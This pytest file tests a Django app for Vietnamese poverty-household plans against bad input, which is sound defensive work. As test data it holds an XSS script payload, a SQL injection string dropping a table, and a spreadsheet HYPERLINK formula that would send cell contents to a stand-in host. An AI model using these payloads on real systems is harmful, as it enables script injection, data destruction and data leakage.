"""The bad-input corpus for forms, URLs and stored text: every input is refused with a message or a 4xx —
never a server error (the test client raises it) and never a partial write — and text comes back escaped.

Shown on conftest's `small_plan` (three districts, 2021–2023; its people in `small_plan_people`) and on plans of
other provinces built per test. Uploads have their own corpus: tests/test_bad_uploads.py.
"""

import csv
import io
import unicodedata
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from indicators.models import Qualifier
from plans.models import AppendixKind, AppendixRow, HouseholdFigure, Plan, SectionKind
from workflow.models import ReviewEvent, Role, Table, TableReview

from .factories import (
    AgencyFactory,
    AgencyResponsibilityFactory,
    AppendixFactory,
    DutyFactory,
    IndicatorAppendixFactory,
    IndicatorValueFactory,
    PlanIndicatorFactory,
    PlanSectionFactory,
    PolicyTaskFactory,
    ProvinceFactory,
    RecipientFactory,
    ReportingObligationFactory,
    make_household_plan,
    make_role_user,
)
from .helpers_b_grids import as_user, districts_url, load, post_confirmed, prefix, snapshot
from .helpers_b_html import parse
from .helpers_b_plans import district, with_history
from .workbook_factory import edited, read

pytestmark = pytest.mark.django_db

SLUG = "tinh-thu-2021-2023"  # conftest's small_plan
SCRIPT = "<script>alert('xss')</script>"
ESCAPED = "&lt;script&gt;alert(&#x27;xss&#x27;)&lt;/script&gt;"


@pytest.fixture
def plan(small_plan):
    return small_plan


@pytest.fixture
def reviewer(small_plan_people):
    return small_plan_people["reviewer"]


@pytest.fixture
def official(small_plan_people):
    return small_plan_people["official"]


@pytest.fixture
def other_plan(db):
    """A plan of another province, with a reporting obligation."""
    other = make_household_plan(slug="thu-tinh-khac-2021-2023", province=ProvinceFactory())
    ReportingObligationFactory(plan=other)
    return other


def nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


def first_figure(plan) -> HouseholdFigure:
    """The first district's 2023 target, the official's row: 10.000 households, 400 poor."""
    return HouseholdFigure.objects.get(plan=plan, locality=district(plan, 1), year=2023, kind="target")


# --- forms: the district grid ------------------------------------------------------------------------------

# What people type, paste or forge into a figure's cell. Each is either read as the number it is, or refused.
CELL_CORPUS = [
    "",
    "   ",
    "0",
    "-5",
    "−5",  # a typographic minus
    "99999999999999999999999999",
    "9" * 5000,
    "1e5",
    "NaN",
    "Infinity",
    "7.540,5",
    "7,540",  # English grouping in the Vietnamese interface: refused, never read as 7,54
    "1.2.3",
    "mười",
    SCRIPT,
    "\x00",
    "1\x002",
    "７５４０",  # full-width digits
    "٣٤",  # Arabic-Indic digits
    "7\u00a0540",  # a no-break space as the thousands separator
    "‮0457",  # right-to-left override
    "𝟕𝟓𝟒𝟎",  # mathematical digits
    "Phù Cừ",
    nfd("Phù Cừ"),
]
# The entries read as a number (an empty cell clears the figure); every other entry is refused.
READ_AS = {"": None, "0": 0, "７５４０": 7540, "٣٤": 34, "7\u00a0540": 7540, "𝟕𝟓𝟒𝟎": 7540}
REFUSED = object()


def expected_outcome(field: str, typed: str) -> tuple[object, str]:
    """What the grid does with the entry: (the number saved, or REFUSED; the cell whose message says why)."""
    number = READ_AS.get(typed, REFUSED)
    if field == "households" and number is not REFUSED and number is not None and number < 400:
        return REFUSED, "poor_households"  # fewer households than the row's 400 poor: said at the poor households
    return number, field


@pytest.mark.parametrize("field", ["households", "poor_households"])
@pytest.mark.parametrize("typed", CELL_CORPUS, ids=range(len(CELL_CORPUS)))
def test_any_text_in_a_grid_cell_is_saved_as_its_number_or_refused_next_to_the_cell(
    client, plan, reviewer, field, typed
):
    values = load(as_user(client, reviewer), districts_url(plan))
    values[f"{prefix(district(plan, 1))}-{field}"] = typed
    before = snapshot()
    response = post_confirmed(client, districts_url(plan), values)  # a number read: its warnings confirmed
    expected, cell = expected_outcome(field, typed)
    if expected is REFUSED:  # the grid again with the message next to the cell, nothing written
        assert response.status_code == 200
        assert snapshot() == before
        assert "<script>alert" not in response.content.decode()
        assert parse(response).find(id=f"id_{prefix(district(plan, 1))}-{cell}_error")
    else:
        assert response.status_code == 302
        assert getattr(first_figure(plan), field) == expected


def test_a_rate_posted_to_a_grid_that_computes_it_is_ignored(client, plan, reviewer):
    for typed in CELL_CORPUS:
        values = load(as_user(client, reviewer), districts_url(plan))
        values[f"{prefix(district(plan, 1))}-published_rate"] = typed
        before = snapshot()
        assert client.post(districts_url(plan), values).status_code == 302, typed
        assert snapshot() == before, typed


def test_a_reason_with_a_script_is_stored_as_text_and_shown_escaped_in_the_history(client, plan, reviewer):
    with_history(plan)
    values = load(as_user(client, reviewer), districts_url(plan))
    values[f"{prefix(district(plan, 1))}-poor_households"] = "401"
    values["reason"] = SCRIPT
    assert post_confirmed(client, districts_url(plan), values).status_code == 302
    figure = first_figure(plan)
    assert figure.history.first().history_change_reason.startswith(SCRIPT + " (⚠ ")  # then the warnings confirmed
    html = client.get(reverse("review:history", args=[SLUG])).content.decode()
    assert ESCAPED in html and SCRIPT not in html
    html = client.get(reverse("review:object_history", args=[SLUG, "figure", figure.pk])).content.decode()
    assert ESCAPED in html and SCRIPT not in html


def test_a_reason_that_is_too_long_or_holds_a_nul_is_refused_and_nothing_is_written(client, plan, reviewer):
    for reason in ("x" * 301, "lý do\x00"):
        values = load(as_user(client, reviewer), districts_url(plan))
        values[f"{prefix(district(plan, 1))}-poor_households"] = "401"
        values["reason"] = reason
        before = snapshot()
        response = client.post(districts_url(plan), values)
        assert response.status_code == 200
        assert response.context["batch"].errors["reason"]
        assert snapshot() == before


def test_a_crafted_post_for_a_row_of_another_province_is_ignored(client, plan, official, other_plan):
    values = load(as_user(client, official), districts_url(plan))
    elsewhere = district(other_plan, 1)
    values[f"f{elsewhere.pk}-households"] = "1"  # not a row of this grid: ignored
    values[f"f{elsewhere.pk}-version"] = "0"
    before = snapshot()
    response = client.post(districts_url(plan), values)
    assert response.status_code == 302  # nothing of this grid changed: saved as an unchanged grid
    assert snapshot() == before


def test_a_crafted_post_for_another_district_of_the_same_plan_is_refused_with_403(client, plan, official):
    values = load(as_user(client, official), districts_url(plan))
    second = district(plan, 2)
    figure = HouseholdFigure.objects.get(plan=plan, locality=second, year=2023, kind="target")
    values[f"f{second.pk}-households"] = "1"
    values[f"initial-f{second.pk}-households"] = str(figure.households)
    values[f"f{second.pk}-version"] = str(figure.version)
    before = snapshot()
    assert client.post(districts_url(plan), values).status_code == 403
    assert snapshot() == before


def test_a_forged_version_is_refused_not_a_server_error(client, plan, reviewer):
    values = load(as_user(client, reviewer), districts_url(plan))
    values[f"{prefix(district(plan, 1))}-poor_households"] = "401"
    for version in ("abc", "-1", "99999999999999999999999"):
        values[f"{prefix(district(plan, 1))}-version"] = version
        before = snapshot()
        assert client.post(districts_url(plan), values).status_code == 200
        assert snapshot() == before


# --- forms: review comments, reporting notes, searches -----------------------------------------------------


def test_a_review_comment_with_a_script_is_shown_escaped_on_every_page(client, plan, reviewer):
    as_user(client, reviewer)
    first = district(plan, 1)
    url = reverse("review:review_action", args=[SLUG, Table.DISTRICTS, "submit"])
    assert client.post(url, {"locality": first.slug, "comment": SCRIPT}).status_code == 302
    assert TableReview.objects.get(plan=plan, locality=first).comment == SCRIPT
    for page in ("review:review", "reports:districts", "review:history"):
        html = client.get(reverse(page, args=[SLUG])).content.decode()
        assert SCRIPT not in html, page
    assert ESCAPED in client.get(reverse("reports:districts", args=[SLUG])).content.decode()


def test_a_review_comment_holding_a_nul_is_refused_with_a_message(client, plan, reviewer):
    as_user(client, reviewer)
    url = reverse("review:review_action", args=[SLUG, Table.DISTRICTS, "submit"])
    response = client.post(url, {"locality": district(plan, 1).slug, "comment": "ok\x00"}, follow=True)
    assert response.status_code == 200
    assert len(response.context["messages"]) == 1
    assert not ReviewEvent.objects.exists()
    assert not TableReview.objects.filter(plan=plan).exclude(state="draft").exists()


def test_a_report_note_with_a_script_or_a_nul_is_escaped_or_refused(client, plan, reviewer):
    as_user(client, reviewer)
    obligation = ReportingObligationFactory(plan=plan)
    url = reverse("review:mark_reported", args=[SLUG, obligation.pk])
    client.post(url, {"reported_on": "03/01/2025", "report_note": SCRIPT})
    obligation.refresh_from_db()
    assert obligation.report_note == SCRIPT
    html = client.get(reverse("reports:results", args=[SLUG])).content.decode()
    assert SCRIPT not in html
    for bad in ({"report_note": "x\x00"}, {"reported_on": "32/13/2025"}, {"reported_on": "9" * 400}):
        response = client.post(url, bad, follow=True)
        assert response.status_code == 200
        assert len(response.context["messages"]) == 1  # “Not recorded: …”
    obligation.refresh_from_db()
    assert obligation.report_note == SCRIPT


@pytest.mark.parametrize(
    "search", ["", SCRIPT, "\x00", "%", "_", "'; DROP TABLE plans_plan; --", "x" * 10_000, "Hưng Yên", nfd("Hưng Yên")]
)
def test_the_home_search_answers_any_text(client, plan, search):
    plans = Plan.objects.count()
    response = client.get(reverse("reports:home"), {"q": search})
    assert response.status_code == 200
    assert "<script>alert" not in response.content.decode()
    assert Plan.objects.count() == plans  # the text was searched for, never run


def test_a_province_name_typed_with_decomposed_diacritics_finds_the_same_plan(client):
    plan = make_household_plan(slug="thu-bac-kan-2021-2023", province=ProvinceFactory(name="Tỉnh Bắc Kạn"))
    for typed in ("Bắc Kạn", nfd("Bắc Kạn"), nfd("bắc kạn"), "BẮC KẠN", "  bắc   kạn ", "bac kan"):
        groups = client.get(reverse("reports:home"), {"q": typed}).context["groups"]
        assert [found.slug for _province, plans in groups for found in plans] == [plan.slug], typed


def test_filters_with_nonsense_are_ignored(client, plan):
    url = reverse("reports:districts", args=[SLUG])
    for query in (
        {"year": "abc"},
        {"year": "99999999999999999999"},
        {"district": ["khong-co", SCRIPT]},
        {"sort": SCRIPT},
    ):
        response = client.get(url, query)
        assert response.status_code == 200
        assert "<script>alert" not in response.content.decode()
    assert client.get(reverse("reports:districts_csv", args=[SLUG]), {"year": "abc"}).status_code == 200
    history = reverse("review:history", args=[SLUG])
    client.force_login(make_role_user(Role.READER))
    for query in ({"page": "abc"}, {"page": "-1"}, {"date_from": "31/02/2024"}, {"user": SCRIPT}, {"kind": "x"}):
        assert client.get(history, query).status_code == 200


# --- URLs -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/plans/khong-co/", 404),
        ("/plans/khong-co/districts/", 404),
        ("/plans/khong-co/districts.csv", 404),
        ("/plans/khong-co/export.xlsx", 404),
        (f"/plans/{SLUG}/appendices/99/export.xlsx", 404),
        (f"/plans/{SLUG}/appendices/99/import/", 404),
        (f"/plans/{SLUG}/districts/?appendix=99", 404),
        (f"/plans/{SLUG}/history/figure/999999999/", 404),
        (f"/plans/{SLUG}/history/khong-co/1/", 404),
        (f"/plans/{SLUG}/review/districts/delete/", 405),
        ("/localities/khong-co/", 404),
        ("/agencies/tinh-thu/khong-co/", 404),
        ("/agencies/tinh-thu/thu-so-tinh-khac/", 404),  # an agency of another province
        ("/plans/%3Cscript%3E/", 404),
        ("/plans/" + "a" * 3000 + "/", 404),
        (f"/plans/{SLUG}/districts/edit/?year=99999999999999999999", 404),
        (f"/plans/{SLUG}/districts/edit/?kind=%00", 404),
    ],
)
def test_unknown_addresses_are_404_for_a_reviewer(client, reviewer, url, status):
    AgencyFactory(slug="thu-so-tinh-khac")  # of a province of its own
    as_user(client, reviewer)
    assert client.get(url).status_code == status


def test_ids_of_another_provinces_plan_are_not_found_under_this_plan(client, plan, reviewer, other_plan):
    as_user(client, reviewer)
    figure = HouseholdFigure.objects.filter(plan=other_plan).first()
    obligation = other_plan.reporting_obligations.get()
    assert client.get(reverse("review:object_history", args=[SLUG, "figure", figure.pk])).status_code == 404
    before = snapshot()
    response = client.post(reverse("review:mark_reported", args=[SLUG, obligation.pk]), {"report_note": "x"})
    assert response.status_code == 404
    obligation.refresh_from_db()
    assert not obligation.reported_on
    url = reverse("review:review_action", args=[SLUG, Table.DISTRICTS, "approve"])
    assert client.post(url, {"locality": district(other_plan, 1).slug}).status_code == 404
    # The other province's own pages refuse this province's reviewer's writes.
    assert client.post(reverse("review:mark_reported", args=[other_plan.slug, obligation.pk]), {}).status_code == 403
    assert client.post(districts_url(other_plan), {}).status_code == 403
    assert snapshot() == before
    assert not TableReview.objects.exists()


@pytest.mark.parametrize(
    ("table", "action"), [("districts", "delete"), ("khong-co", "submit"), ("indicators", "approve%00"), (SCRIPT, "x")]
)
def test_crafted_review_posts_are_refused(client, plan, reviewer, table, action):
    as_user(client, reviewer)
    before = TableReview.objects.count()
    url = f"/plans/{SLUG}/review/{table}/{action}/"
    assert client.post(url, {"locality": district(plan, 1).slug}).status_code == 404
    assert TableReview.objects.count() == before


# --- stored text on output ------------------------------------------------------------------------------


@pytest.fixture
def hostile_label(plan):
    """A district label as an administrator could type it in the admin."""
    row = AppendixRow.objects.get(appendix__plan=plan, locality=district(plan, 1))
    row.label = SCRIPT
    row.save()
    return row


@pytest.fixture
def hostile_plan(plan, hostile_label):
    """The plan with every kind of text an administrator types holding the script: a district label, sections
    (numbered “I.”, “a)”, “-” and unnumbered, within one another), an agency's duty, a policy task, a recipient,
    an indicator of an appendix (with a qualified target); and a province total that disagrees with its districts
    (the computed total shown)."""
    parent = PlanSectionFactory(
        plan=plan, order=0, kind=SectionKind.ORGANISATION, number="I", heading=SCRIPT, body=SCRIPT
    )  # where the agencies' duties are listed
    PlanSectionFactory(plan=plan, order=1, parent=parent, number="a", heading=SCRIPT, body="")
    PlanSectionFactory(plan=plan, order=2, parent=parent, number="-", heading="", body=SCRIPT)
    PlanSectionFactory(plan=plan, order=3, parent=parent, number="", heading=SCRIPT, body="")  # unnumbered
    DutyFactory(responsibility=AgencyResponsibilityFactory(plan=plan), text=SCRIPT)
    tasks = AppendixFactory(plan=plan, code="03", order=2, kind=AppendixKind.POLICY_TASKS)
    PolicyTaskFactory(plan=plan, appendix=tasks, text=SCRIPT)
    RecipientFactory(plan=plan, text=SCRIPT)
    ReportingObligationFactory(plan=plan, text=SCRIPT)
    appendix = IndicatorAppendixFactory(plan=plan, code="02", order=1)
    indicator = PlanIndicatorFactory(plan=plan, appendix=appendix, text=SCRIPT)
    IndicatorValueFactory(plan_indicator=indicator, value=Decimal("90"), qualifier=Qualifier.ABOUT)
    HouseholdFigure.objects.filter(plan=plan, locality=plan.province, year=2023).update(poor_households=1210)
    return plan


def test_a_stored_script_is_escaped_on_the_pages(client, hostile_plan):
    for url in (
        reverse("reports:plan", args=[SLUG]),
        reverse("reports:districts", args=[SLUG]),
        reverse("reports:results", args=[SLUG]),
        reverse("reports:quality", args=[SLUG]),
        reverse("reports:indicators", args=[SLUG]),
    ):
        html = client.get(url).content.decode()
        assert SCRIPT not in html, url
    plan_page = client.get(reverse("reports:plan", args=[SLUG])).content.decode()
    # The label, four sections, the duty, the task, the recipient, the report, the indicator: each shown, escaped.
    assert plan_page.count(ESCAPED) >= 11
    indicators = parse(client.get(reverse("reports:indicators", args=[SLUG])))
    assert SCRIPT in indicators.text and "khoảng 90" in indicators.text  # the indicator's qualified target
    districts = parse(client.get(reverse("reports:districts", args=[SLUG])))
    assert SCRIPT in districts.text  # shown as text
    assert gettext_in_vietnamese("Computed total (sum of the rows)") in districts.text
    assert "1.210" in districts.text and "1.203" in districts.text  # the published and the computed total


def gettext_in_vietnamese(message: str) -> str:
    with translation.override("vi"):
        return gettext(message)


def exported_cells(client, value):
    data = b"".join(client.get(reverse("spreadsheets:export_appendix", args=[SLUG, "01"])).streaming_content)
    ws = load_workbook(io.BytesIO(data))["Phụ lục 01"]
    return [cell for row in ws.iter_rows() for cell in row if cell.value == value]


def csv_labels(client):
    text = client.get(reverse("reports:districts_csv", args=[SLUG])).content.decode("utf-8-sig")
    return [row[1] for row in csv.reader(io.StringIO(text), delimiter=";")]


def test_a_stored_script_is_plain_text_in_the_csv_and_in_the_workbook(client, hostile_label):
    assert SCRIPT in csv_labels(client)
    cells = exported_cells(client, SCRIPT)
    assert len(cells) == 1 and cells[0].data_type == "s"


def test_a_stored_label_that_looks_like_a_formula_stays_text_in_the_workbook_and_the_csv(client, hostile_label):
    formula = '=HYPERLINK("http://example.org/?"&A1,"Phù Cừ")'
    AppendixRow.objects.filter(pk=hostile_label.pk).update(label=formula)
    cells = exported_cells(client, formula)
    assert len(cells) == 1 and cells[0].data_type == "s"  # text: Excel shows it, never runs it
    assert "'" + formula in csv_labels(client)


# --- Unicode: one district however its diacritics are typed ----------------------------------------------


@pytest.mark.parametrize("form", ["NFC", "NFD", "NFKD"])
def test_a_district_named_with_decomposed_diacritics_in_a_workbook_is_the_same_district(plan, form):
    label = unicodedata.normalize(form, "Huyện Số 1")
    with translation.override("en"):
        data = edited(plan, "01", [("Phụ lục 01", "Huyện Số 1", "Năm 2023 — Tổng số hộ dân cư", 10001)])
        workbook = load_workbook(io.BytesIO(data))
        ws = workbook["Phụ lục 01"]
        for row in ws.iter_rows(min_col=2, max_col=2):
            if row[0].value == "Huyện Số 1":
                row[0].value = label
        buffer = io.BytesIO()
        workbook.save(buffer)
        result = read(buffer.getvalue(), plan, "01")
    assert result.ok, [str(problem) for problem in result.errors]
    assert [(change.owner_id, change.new) for change in result.changes] == [(district(plan, 1).pk, "10001")]


@pytest.mark.usefixtures("english")
def test_the_english_interface_gets_the_same_refusals(client, plan, reviewer):
    values = load(as_user(client, reviewer), districts_url(plan))
    values[f"{prefix(district(plan, 1))}-households"] = "7.540,5"  # Vietnamese writing in the English interface
    before = snapshot()
    assert client.post(districts_url(plan), values).status_code == 200
    assert snapshot() == before
